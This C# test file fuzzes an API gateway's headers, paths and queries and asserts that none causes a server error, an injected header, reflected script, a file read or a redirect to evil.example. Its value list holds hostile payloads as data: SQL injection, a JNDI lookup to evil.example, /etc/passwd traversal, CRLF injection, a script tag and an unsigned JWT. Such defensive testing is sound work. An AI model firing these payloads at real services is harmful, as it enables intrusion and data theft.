using Shabou.Gateway.Tests.Servers;
using Shabou.Schema.Identity;
using Shabou.Testing.OpenApi;

namespace Shabou.Gateway.Tests.Fuzzing;

/// <summary>Every header that the gateway, or what it is made of, looks at, with values that no client should send.</summary>
public sealed class HeaderFuzzTests(GatewayFixture fixture)
{
    private const string Script = "<script>alert(1)</script>";

    private static readonly string[] s_headers =
    [
        "X-Api-Key", "Authorization", "Idempotency-Key", "If-Match", "If-None-Match", "If-Modified-Since", "Accept", "Accept-Language", "Accept-Encoding", "Content-Type", "Content-Encoding",
        "X-Request-ID", "Origin", "Access-Control-Request-Method", "Access-Control-Request-Headers", "Host", "Cookie", "Forwarded", "X-Forwarded-For", "X-Forwarded-Proto", "X-Forwarded-Host",
        "X-Forwarded-Prefix", "X-Real-IP", "traceparent", "tracestate", "baggage", "Range", "Expect", "Upgrade", "Connection", "TE", "Via", "X-HTTP-Method-Override", "X-Original-URL", "Referer", "User-Agent",
        "Sec-WebSocket-Key", "X-Service-Key", "X-Client-Id", "X-Client-Role",
    ];

    private static readonly string[] s_values =
    [
        "", " ", "\t", "a\tb", new('a', 8_000), new('a', 40_000), "\0", "\u0001", "\u007f", "\u00e9", "\u00ff\u00fe", "\u00c3\u00a9", "\u00d9\u0085\u00d8\u00aa", "\u00ed\u00a0\u0080", "%00", "%0d%0aX-Injected: 1",
        "' OR 1=1--", "'; DROP TABLE identity.api_keys;--", Script, "../../etc/passwd", "${jndi:ldap://evil.example}", "{0}{1}{2}", "%s%n", "-1", "0", "99999999999999999999", "1e309", "NaN", "null", "true",
        ",", ",,,,", ";;;", "=", "=;=", "\"", "\"unterminated", "W/", "W/\"", "W/\"a\", \"b", "*", "*;q=2;q=abc", "gzip;q=0.00001, *;q=-1", "text/html;charset=\u00ff", "application/json;charset=utf-7", "multipart/form-data",
        "bytes=0-0,1-1,2-2", "bytes=-99999999999999999999", "bytes=5-1", "Bearer", "Bearer ", "Bearer a.b.c", "Bearer eyJhbGciOiJub25lIn0.e30.", "Bearer a, Bearer b", "Basic !!!", "Negotiate AAAA",
        "https://evil.example", "null, null", "http://[::1", "[::1]", "localhost:99999", "a b", "evil.example@localhost", "evil.example/..", "00-00000000000000000000000000000000-0000000000000000-00",
        "00-ffffffffffffffffffffffffffffffff-ffffffffffffffff-ff", "ff-", "a=b; c; =d; __Host-x=%%%", "for=\"[::1]\";proto=https;by=_x", "unknown", "127.0.0.1, 10.0.0.1, ::1", "Mon, 99 Foo 9999 99:99:99 GMT",
        "100-continue", "websocket", "h2c", "close, keep-alive", "trailers", "DELETE", "/api/v1/me",
    ];

    private static readonly (string Method, string Path, string Body)[] s_requests =
    [
        ("GET", "/api/v1/me", ""), ("GET", "/api/v1/products?size=1", ""), ("POST", "/api/v1/demand", "{\"observations\":[]}"), ("GET", "/openapi/v1.json", ""), ("GET", "/docs/index.html", ""), ("GET", "/", ""), ("OPTIONS", "/api/v1/me", ""),
        ("DELETE", "/api/v1/products/1", ""), ("GET", "/nothing/here", ""),
    ];

    [Fact]
    public Task A_header_of_any_content_is_never_an_error_of_ours() => FuzzAsync(every: s_requests.Length);

    [Fact]
    [Trait("Category", "Faults")]
    public Task A_header_of_any_content_is_never_an_error_of_ours_for_any_kind_of_request() => FuzzAsync(every: 1);

    [Fact]
    public async Task Nothing_of_the_corpus_in_a_path_or_a_query_is_an_error_of_ours_or_leads_elsewhere()
    {
        using var gateway = Gateway();
        await using var client = new RawClient(gateway);
        var key = await fixture.Postgres.IssueAsync(ApiKeyRole.User);
        var findings = new List<string>();
        foreach (var hostile in Hostile.All.Where((_, i) => i % 3 == 0 || i > 400))
            foreach (var target in (string[])[$"/api/v1/products/{Escape(hostile.Text)}", $"/api/v1/products?q={Escape(hostile.Text)}", $"/docs/{Raw(hostile.Text)}", $"/{Raw(hostile.Text)}", $"/api/v1/brands/..%2f{Raw(hostile.Text)}"])
                Check(findings, $"GET {target}", await client.SendAsync($"GET {target} HTTP/1.1\r\nHost: localhost\r\nX-Api-Key: {key.Secret}", "", TestContext.Current.CancellationToken));
        Assert.True(findings.Count == 0, $"{findings.Count} findings:\n{string.Join('\n', findings.Take(20))}");
    }

    private async Task FuzzAsync(int every)
    {
        using var gateway = Gateway();
        await using var client = new RawClient(gateway);
        var key = await fixture.Postgres.IssueAsync(ApiKeyRole.User);
        var (findings, answered, sent) = (new List<string>(), 0, 0);
        var turn = 0;
        foreach (var header in s_headers)
            foreach (var value in s_values)
                for (var i = turn++ % every; i < s_requests.Length; i += every)
                {
                    var (method, path, body) = s_requests[i];
                    var times = sent++ % 7 == 0 ? 2 : 1; // now and then the header comes twice
                    var answer = await client.SendAsync(Head(method, path, body, key, header, value, times), body, TestContext.Current.CancellationToken);
                    if (answer is not null) answered++;
                    Check(findings, $"{method} {path} with {header}: {value[..Math.Min(60, value.Length)]}", answer);
                }
        Assert.True(findings.Count == 0, $"{findings.Count} findings of {sent}:\n{string.Join('\n', findings.Take(40))}");
        Assert.True(answered > sent * 0.95, $"Only {answered} of {sent} requests were answered.");

        using var sane = gateway.Client(key);
        Assert.Equal("answered", await sane.GetStringAsync(new Uri("/api/v1/products", UriKind.Relative), TestContext.Current.CancellationToken));
    }

    private GatewayHost Gateway() => fixture.Gateway(("RateLimits:Policies:default:Requests", "100000"), ("RateLimits:Policies:training:Requests", "100000"), ("Logging:LogLevel:Default", "None"), ("ApiKeys:UnknownFor", "00:01:00"));

    private static string Head(string method, string path, string body, IssuedKey key, string header, string value, int times)
    {
        List<string> lines = [$"{method} {path} HTTP/1.1"];
        void Usual(string name, string usual)
        {
            if (!name.Equals(header, StringComparison.OrdinalIgnoreCase)) lines.Add($"{name}: {usual}");
        }
        Usual("Host", "localhost");
        Usual("X-Api-Key", key.Secret);
        if (body.Length > 0)
        {
            Usual("Content-Type", "application/json");
            lines.Add($"Content-Length: {body.Length}");
        }
        for (var i = 0; i < times; i++) lines.Add($"{header}: {value}");
        return string.Join("\r\n", lines);
    }

    private static void Check(List<string> findings, string what, RawAnswer? answer)
    {
        if (answer is null) return; // closed without a word: no harm done
        if (answer.Status >= 500) findings.Add($"{what} answered {answer.Status} {answer.Body[..Math.Min(300, answer.Body.Length)]}");
        if (answer.Headers.Any(line => line.StartsWith("X-Injected", StringComparison.OrdinalIgnoreCase))) findings.Add($"{what} added a header.");
        if (answer.Body.Contains(Script, StringComparison.Ordinal)) findings.Add($"{what} came back unescaped: {answer.Body[..Math.Min(300, answer.Body.Length)]}");
        if (answer.Body.Contains("root:x:0", StringComparison.Ordinal)) findings.Add($"{what} read a file.");
        if (answer.Headers.Any(line => line.StartsWith("Location:", StringComparison.OrdinalIgnoreCase) && line.Contains("evil.example", StringComparison.OrdinalIgnoreCase))) findings.Add($"{what} leads elsewhere.");
    }

    private static string Escape(string text) => Uri.EscapeDataString(text.Replace("\0", "", StringComparison.Ordinal));

    // As it is, but for what would end the request line.
    private static string Raw(string text) => string.Concat(text.Where(c => c is > ' ' and <= '~' and not '#'));
}
